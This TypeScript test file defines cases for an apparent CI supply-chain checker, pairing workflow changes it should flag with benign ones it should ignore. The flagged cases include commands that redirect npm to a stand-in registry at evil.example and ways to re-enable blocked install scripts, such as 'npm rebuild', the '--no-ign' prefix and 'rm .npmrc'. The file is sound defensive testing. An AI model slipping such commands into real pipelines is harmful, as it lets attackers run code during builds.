import { APP } from "./app.ts";
import type { Attack, AttackClass } from "./attack.ts";
import { lockWith, manifestWith, WITH_SCRIPT } from "./npm-app.ts";

const LOCK = "package-lock.json";
const WORKFLOW = ".github/workflows/release.yml";
const EVIL = lockWith({ "node_modules/evil": WITH_SCRIPT });

function workflow(install: string): string {
  return APP[WORKFLOW].replace("- run: npm ci", install);
}

function withScript(name: string, text: string): string {
  const { scripts } = JSON.parse(APP["package.json"]);
  return manifestWith({ scripts: { ...scripts, [name]: text } });
}

export const INSTALL_COMMANDS: AttackClass = {
  name: "install policy by commands",
  decides:
    "npm takes several names for a command and, up to 11, the beginning of a flag's name for the flag. What a command writes into settings counts for those after it, and each command runs scripts by its own flags.",
  attacks: [
    {
      name: "hears a command that runs scripts beside one that doesn't",
      base: { [WORKFLOW]: workflow("- run: npm ci --ignore-scripts"), [LOCK]: EVIL },
      change: { [WORKFLOW]: workflow("- run: npm ci --ignore-scripts\n      - run: npm rebuild") },
      expect: "loud",
      real: "npm 11.19 rebuild ran the script that `npm ci --ignore-scripts` had left.",
    },
    {
      name: "hears a flag by the beginning of its name",
      base: { ".npmrc": "ignore-scripts=true\n" },
      change: { [WORKFLOW]: workflow("- run: npm ci --no-ign") },
      expect: "loud",
      at: WORKFLOW,
      real: "npm 11.19 expands --ign to --ignore-scripts, with a warning, and ran the script.",
    },
    {
      name: "hears a registry by a short flag",
      change: { [WORKFLOW]: workflow("- run: npm ci --reg https://evil.example/") },
      expect: "loud",
      at: WORKFLOW,
      real: "npm 11.19 asked the registry that the flag names.",
    },
    ...[
      ["npm c set registry https://evil.example/", "`c` is a name of `config`."],
      ["npm config set fund=false registry=https://evil.example/", "It takes any number of settings."],
      ["npm config delete ignore-scripts --location=project", "The line goes from the project's file."],
      ["yarn config set npmRegistryServer https://evil.example/", "Yarn from 2 on calls it so. Not tried."],
      ["cp ci/npmrc .npmrc", "npm reads what lies there."],
      ["rm .npmrc", "npm reads nothing then, and runs scripts."],
    ].map(
      ([command = "", real = ""]): Attack => ({
        name: `hears ${command}`,
        base: { ".npmrc": "ignore-scripts=true\n" },
        change: { [WORKFLOW]: workflow(`- run: ${command} && npm ci`) },
        expect: "loud",
        at: WORKFLOW,
        real,
      }),
    ),
    ...["npm update", "cd src-tauri && cargo update"].map(
      (update): Attack => ({
        name: `hears ${update} in a script that a workflow calls`,
        change: {
          "package.json": withScript("fresh", update),
          [WORKFLOW]: workflow("- run: npm ci && npm run fresh"),
        },
        expect: "loud",
        at: "package.json",
        real: "By the documentation of npm and cargo: both take the newest that fits, and write the lockfile.",
      }),
    ),
    {
      name: "says nothing of a script that people call to update",
      change: { "package.json": withScript("fresh", "npm update && cd src-tauri && cargo update") },
      expect: "silent",
      real: "Nothing that builds calls it, and what it changes is reviewed.",
    },
    {
      name: "says nothing of a script that looks at settings",
      base: { ".npmrc": "ignore-scripts=true\n" },
      change: {
        [WORKFLOW]: workflow(
          "- run: cat .npmrc && npm config get registry && npm c set fund=false && npm ci",
        ),
      },
      expect: "silent",
      real: "npm 11.19 installs the same.",
    },
    {
      name: "says nothing of a flag whose beginning decides nothing, and of `--no`",
      change: {
        [WORKFLOW]: workflow(
          "- run: npm ci --no-audit --no-fund --prefer-offline\n      - run: npm exec --no vite",
        ),
      },
      expect: "silent",
      real: "npm 11.19 installs the same.",
    },
    {
      name: "says nothing of a program that is installed for the whole machine",
      change: { [WORKFLOW]: workflow("- run: npm ci\n      - run: npm install --global left@1.2.3") },
      expect: "silent",
      real: "By npm's manual, not run: a whole name is no beginning of another, and it lays nothing into the project.",
    },
  ],
};
